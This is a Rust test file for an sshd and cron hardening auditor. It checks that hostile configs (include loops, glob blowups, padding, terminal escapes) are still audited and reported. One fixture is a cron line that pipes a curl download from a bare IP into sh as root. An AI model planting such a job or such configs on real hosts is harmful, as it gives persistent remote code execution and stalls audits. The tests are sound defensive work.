//! Hostile configurations (#22): include amplification, padding and escapes must neither stop
//! nor blind the audit, and must be reported.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use ferret_harden::core::{CancelToken, Control, HostRoot, Outcome};
use ferret_harden::sshd::{ConnectionContext, LoadLimit, LoadLimits, SshdConfig};
use ferret_harden::{Check, HardenOptions};
use std::path::Path;
use std::time::{Duration, Instant};

/// The issue's bound: each case finishes in well under a second in an optimised build (the
/// README has the figures); unoptimised test builds on a loaded CI machine get ten.
const LIMIT: Duration = if cfg!(debug_assertions) {
    Duration::from_secs(10)
} else {
    Duration::from_secs(1)
};

fn root_with(files: &[(&str, &[u8])]) -> (tempfile::TempDir, HostRoot) {
    let t = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(t.path().join("etc/ssh/sshd_config.d")).unwrap();
    for (p, body) in files {
        let p = t.path().join(p);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    let root = HostRoot::new(t.path()).unwrap();
    (t, root)
}

fn sshd_audit(root: &HostRoot, control: &Control) -> (Outcome, Duration) {
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Sshd, Check::Persistence];
    let t = Instant::now();
    let out = ferret_harden::audit_root(root, &o, control);
    (out, t.elapsed())
}

fn ids(out: &Outcome) -> Vec<&str> {
    out.findings.iter().map(|f| f.id.as_str()).collect()
}

#[test]
fn a_config_that_includes_itself_three_times_is_reported_not_expanded() {
    let (_t, root) = root_with(&[(
        "etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config\nInclude /etc/ssh/sshd_config\nInclude sshd_config\nPermitRootLogin yes\n",
    )]);
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "took {took:?}");
    let amp = out
        .findings
        .iter()
        .find(|f| f.id == "sshd.include-amplification")
        .unwrap_or_else(|| panic!("no amplification finding: {:?}", ids(&out)));
    assert_eq!(amp.subject, "/etc/ssh/sshd_config");
    // The evidence names the Include lines.
    let lines: Vec<_> = amp.evidence.iter().filter_map(|e| e.line).collect();
    assert_eq!(lines, [1, 2, 3]);
    // The directive after the loop is still checked.
    assert!(
        ids(&out).contains(&"sshd.permit-root-login"),
        "{:?}",
        ids(&out)
    );
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &Control::new()).unwrap();
    assert_eq!(cfg.stats.files, 1, "the file is read once");
    assert_eq!(cfg.stats.recursive_includes, 3);
    assert_eq!(cfg.stats.limit, None);
}

#[test]
fn a_hundred_thousand_includes_of_itself_finish_fast() {
    let mut body = b"PermitRootLogin yes\n".to_vec();
    for _ in 0..100_000 {
        body.extend_from_slice(b"Include /etc/ssh/sshd_config\n");
    }
    let (_t, root) = root_with(&[("etc/ssh/sshd_config", &body)]);
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "took {took:?}");
    assert!(ids(&out).contains(&"sshd.include-amplification"));
    assert!(ids(&out).contains(&"sshd.permit-root-login"));
    // Not a flood: one finding, a handful of errors.
    assert_eq!(
        out.findings
            .iter()
            .filter(|f| f.id == "sshd.include-amplification")
            .count(),
        1
    );
    assert!(out.errors.len() < 10, "{:#?}", out.errors);
}

/// 100,000 empty files under `dir` (empty: no data blocks, cheap to make).
fn many_files(root: &Path, dir: &str, n: usize) {
    let d = root.join(dir);
    std::fs::create_dir_all(&d).unwrap();
    for i in 0..n {
        std::fs::File::create(d.join(format!("{i:06}.conf"))).unwrap();
    }
}

#[test]
fn a_hundred_thousand_distinct_includes_and_a_glob_over_them_stop_at_the_limits() {
    let (t, root) = root_with(&[]);
    many_files(t.path(), "etc/ssh/sshd_config.d", 100_000);
    let mut body = Vec::new();
    for i in 0..100_000 {
        body.extend_from_slice(format!("Include sshd_config.d/{i:06}.conf\n").as_bytes());
    }
    body.extend_from_slice(b"PasswordAuthentication yes\n");
    std::fs::write(t.path().join("etc/ssh/sshd_config"), &body).unwrap();
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "distinct includes took {took:?}");
    assert!(ids(&out).contains(&"sshd.include-amplification"));
    // What comes after the includes is still checked.
    assert!(ids(&out).contains(&"sshd.password-authentication"));
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &Control::new()).unwrap();
    assert_eq!(cfg.stats.limit, Some(LoadLimit::Files));
    assert_eq!(cfg.stats.files, LoadLimits::DEFAULT_MAX_FILES);

    std::fs::write(
        t.path().join("etc/ssh/sshd_config"),
        "Include sshd_config.d/*.conf\nPasswordAuthentication yes\n",
    )
    .unwrap();
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "the glob took {took:?}");
    assert!(ids(&out).contains(&"sshd.include-amplification"));
    assert!(ids(&out).contains(&"sshd.password-authentication"));
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &Control::new()).unwrap();
    assert_eq!(cfg.stats.limit, Some(LoadLimit::Files));
    // glob(3) order: the first files by name are the ones read.
    assert_eq!(
        cfg.files.get(1).map(|p| p.display().to_string()).as_deref(),
        Some("/etc/ssh/sshd_config.d/000000.conf")
    );
}

#[test]
fn exponential_nesting_stops_at_the_include_limit() {
    // Each level includes the next one twice: 2^15 inclusions without a loop.
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..15 {
        files.push((
            format!("etc/ssh/l{i}.conf"),
            format!(
                "Include /etc/ssh/l{}.conf\nInclude /etc/ssh/l{}.conf\nAcceptEnv L{i}\n",
                i + 1,
                i + 1
            )
            .into_bytes(),
        ));
    }
    files.push(("etc/ssh/l15.conf".into(), b"AcceptEnv LAST\n".to_vec()));
    files.push((
        "etc/ssh/sshd_config".into(),
        b"Include /etc/ssh/l0.conf\nPermitRootLogin yes\n".to_vec(),
    ));
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_slice()))
        .collect();
    let (_t, root) = root_with(&refs);
    let t = Instant::now();
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &Control::new()).unwrap();
    let eff = cfg.effective(&ConnectionContext::new().user("root"));
    assert!(t.elapsed() < LIMIT, "took {:?}", t.elapsed());
    assert_eq!(cfg.stats.limit, Some(LoadLimit::Includes));
    assert_eq!(cfg.stats.files, 17, "each file read once");
    assert_eq!(eff.get("permitrootlogin").as_deref(), Some("yes"));
}

#[test]
fn a_hostile_glob_pattern_takes_linear_time() {
    let name = "a".repeat(200);
    let (_t, root) = root_with(&[
        (
            "etc/ssh/sshd_config",
            b"Include sshd_config.d/*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b\nPermitRootLogin yes\n",
        ),
        (&format!("etc/ssh/sshd_config.d/{name}"), b"X11Forwarding yes\n"),
    ]);
    let t = Instant::now();
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &Control::new()).unwrap();
    assert!(t.elapsed() < LIMIT, "took {:?}", t.elapsed());
    assert_eq!(cfg.files.len(), 1, "nothing matches");
}

#[test]
fn the_load_honours_cancellation_and_the_time_budget() {
    let files: Vec<(String, Vec<u8>)> = vec![
        (
            "etc/ssh/sshd_config".into(),
            b"Include /etc/ssh/a.conf\nPermitRootLogin yes\n".to_vec(),
        ),
        ("etc/ssh/a.conf".into(), b"X11Forwarding yes\n".to_vec()),
    ];
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_slice()))
        .collect();
    let (_t, root) = root_with(&refs);
    let cancel = CancelToken::new();
    cancel.cancel();
    let cfg = SshdConfig::load(
        &root,
        "/etc/ssh/sshd_config",
        &Control::new().with_cancel(cancel),
    )
    .unwrap();
    assert!(cfg.stats.cancelled);
    assert_eq!(cfg.files.len(), 1, "no include followed once cancelled");
    assert!(cfg.errors.iter().any(|e| e.message == "cancelled"));
    let spent = Control::new().with_time_budget(Duration::ZERO);
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &spent).unwrap();
    assert!(cfg.stats.cancelled);
    // Without either, the include is read.
    let cfg = SshdConfig::load(&root, "/etc/ssh/sshd_config", &Control::new()).unwrap();
    assert_eq!(cfg.files.len(), 2);
}

#[test]
fn a_padded_config_is_read_and_reported() {
    let mut body = b"# padding\n".repeat(500_000); // 5 MB of comments
    body.extend_from_slice(b"PermitRootLogin yes\n");
    let (_t, root) = root_with(&[("etc/ssh/sshd_config", &body)]);
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "took {took:?}");
    assert!(
        ids(&out).contains(&"sshd.oversized-config"),
        "{:?}",
        ids(&out)
    );
    assert!(
        ids(&out).contains(&"sshd.permit-root-login"),
        "the directive after the padding is seen"
    );
    // Past the byte budget, what was read is checked and the cut is said.
    let mut limits = LoadLimits::default();
    limits.max_bytes = 1 << 20;
    let cfg =
        SshdConfig::load_limited(&root, "/etc/ssh/sshd_config", &limits, &Control::new()).unwrap();
    assert_eq!(cfg.stats.limit, Some(LoadLimit::Bytes));
    assert_eq!(cfg.stats.oversized[0].read, 1 << 20);
    assert_eq!(cfg.stats.oversized[0].size, body.len() as u64);
}

#[test]
fn a_terminal_escape_in_a_value_is_escaped_in_the_error() {
    let (_t, root) = root_with(&[(
        "etc/ssh/sshd_config",
        b"PermitRootLogin \x1b]0;owned\x07\nX11Forwarding \x1b[2J\nMatch \x1b[31m x\n",
    )]);
    let (out, _) = sshd_audit(&root, &Control::new());
    let text: Vec<String> = out.errors.iter().map(ToString::to_string).collect();
    assert!(
        text.iter().any(|e| e
            == r#"/etc/ssh/sshd_config:1: permitrootlogin: unsupported option "\x1b]0;owned\x07""#),
        "{text:#?}"
    );
    for e in &text {
        assert!(
            !e.contains('\x1b') && !e.contains('\x07'),
            "raw escape in {e:?}"
        );
    }
    for f in &out.findings {
        let shown = format!("{f} {:?} {:?}", f.detail, f.remediation);
        assert!(!shown.contains('\x1b'), "raw escape in {shown}");
    }
}

#[test]
fn a_cron_file_padded_past_the_cap_is_still_checked_and_reported() {
    // 5 MiB of comment padding, then a download-and-run job: once skipped with only an error.
    let mut body = b"# maintenance\n".repeat((5 << 20) / 14);
    body.extend_from_slice(&vec![b' '; 100_000]); // an overlong blank line too
    body.extend_from_slice(b"\n*/5 * * * * root curl -s http://203.0.113.7/x | sh\n");
    let (_t, root) = root_with(&[("etc/cron.d/zz-padded", &body)]);
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "took {took:?}");
    let found = ids(&out);
    assert!(
        found.contains(&"persistence.cron-download-exec"),
        "{found:?} {:?}",
        out.errors
    );
    assert!(found.contains(&"persistence.oversized-file"), "{found:?}");
    let hit = out
        .findings
        .iter()
        .find(|f| f.id == "persistence.cron-download-exec")
        .unwrap();
    let want_line = body.split(|&b| b == b'\n').count() as u64 - 1;
    assert_eq!(
        hit.evidence[0].line,
        Some(want_line),
        "line numbers survive"
    );
    // A normal-sized cron file gives no oversized finding.
    let (_t2, root2) = root_with(&[(
        "etc/cron.d/job",
        b"*/5 * * * * root /usr/bin/true\n".as_slice(),
    )]);
    let (out2, _) = sshd_audit(&root2, &Control::new());
    assert!(!ids(&out2).contains(&"persistence.oversized-file"));
}

#[test]
fn a_glob_whose_files_include_the_glob_again_stops_at_the_limits() {
    // From the hostile-roots suite: 1,000 Include lines of a glob over 5,000 files that each
    // include the same glob. The depth limit was met once per file, per directive: a million
    // errors and a minute of work.
    let (t, root) = root_with(&[]);
    let d = t.path().join("etc/ssh/sshd_config.d");
    for i in 0..5_000 {
        std::fs::write(
            d.join(format!("{i:05}.conf")),
            "Include /etc/ssh/sshd_config.d/*.conf\nX11Forwarding yes\n",
        )
        .unwrap();
    }
    let mut body = b"Include /etc/ssh/sshd_config\n".repeat(3);
    body.extend(b"Include /etc/ssh/sshd_config.d/*.conf\n".repeat(1_000));
    body.extend_from_slice(b"PermitRootLogin yes\n");
    std::fs::write(t.path().join("etc/ssh/sshd_config"), &body).unwrap();
    let (out, took) = sshd_audit(&root, &Control::new());
    assert!(took < LIMIT, "took {took:?}");
    assert!(ids(&out).contains(&"sshd.include-amplification"));
    assert!(ids(&out).contains(&"sshd.permit-root-login"));
    assert!(
        out.errors.len() <= 1_100,
        "{} errors: bounded by the issue cap",
        out.errors.len()
    );
}
